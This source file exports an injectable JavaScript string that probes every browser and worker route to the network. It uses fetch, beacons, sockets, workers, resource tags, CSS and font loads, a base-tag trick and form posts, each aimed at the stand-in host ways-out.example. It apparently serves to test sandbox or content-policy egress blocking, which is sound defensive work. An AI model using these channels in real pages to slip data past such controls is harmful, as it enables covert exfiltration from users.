/**
 * A script that tries every way a document or a worker has to reach the network, each with an address that names the
 * way: `https://ways-out.example/<mark>/<way>`. Clicking a link is not among them: that is hers to do. Resolves to the
 * list of ways that were tried. Plain JavaScript as text, because it is planted into pages.
 */
export const waysOut = `async function tryWaysOut(mark) {
  const tried = [];
  const at = (way) => { tried.push(way); return 'https://ways-out.example/' + mark + '/' + way; };
  const attempt = async (act) => { try { await act(); } catch {} };
  const page = typeof document === 'object';
  await attempt(() => fetch(at('fetch')));
  await attempt(() => fetch(at('fetch-no-cors'), { mode: 'no-cors' }));
  await attempt(() => fetch(at('fetch-post'), { method: 'POST', body: 'x', keepalive: true }));
  await attempt(() => import(at('import')));
  await attempt(() => { new EventSource(at('event-source')); });
  await attempt(() => { new WebSocket(at('web-socket').replace('https', 'wss')); });
  await attempt(() => { const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send(); });
  await attempt(() => navigator.sendBeacon(at('beacon'), 'x'));
  await attempt(() => { new Worker(at('worker')); });
  await attempt(() => { new SharedWorker(at('shared-worker')); });
  if (!page) await attempt(() => importScripts(at('import-scripts')));
  if (page) {
    const put = (tag, set) => { const e = document.createElement(tag); Object.assign(e, set); document.body.append(e); return e; };
    await attempt(() => put('img', { src: at('img') }));
    await attempt(() => { new Image().src = at('image'); });
    await attempt(() => put('link', { rel: 'stylesheet', href: at('css') }));
    await attempt(() => put('link', { rel: 'prefetch', href: at('prefetch') }));
    await attempt(() => put('link', { rel: 'modulepreload', href: at('modulepreload') }));
    await attempt(() => put('link', { rel: 'icon', href: at('icon') }));
    await attempt(() => put('link', { rel: 'manifest', href: at('manifest') }));
    await attempt(() => put('iframe', { src: at('iframe') }));
    await attempt(() => put('object', { data: at('object') }));
    await attempt(() => put('embed', { src: at('embed') }));
    await attempt(() => put('script', { src: at('script') }));
    await attempt(() => put('script', { type: 'module', src: at('module') }));
    await attempt(() => put('video', { src: at('video') }).load());
    await attempt(() => put('video', { poster: at('poster') }));
    await attempt(() => put('audio', { src: at('audio') }).load());
    await attempt(() => put('div', { style: 'background:url(' + at('background') + ')' }));
    await attempt(() => { const s = put('style', {}); s.textContent = '@import url(' + at('css-import') + ');@font-face{font-family:w;src:url(' + at('font') + ')}body{font-family:w}'; });
    await attempt(() => new FontFace('v', 'url(' + at('font-face') + ')').load());
    await attempt(() => { const b = document.createElement('base'); b.href = at('base/'); document.head.append(b); put('img', { src: 'relative' }); b.remove(); });
    await attempt(() => {
      put('iframe', { name: 'sink' });
      const form = put('form', { action: at('form'), method: 'post', target: 'sink' });
      form.submit();
    });
  }
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return tried;
}`;
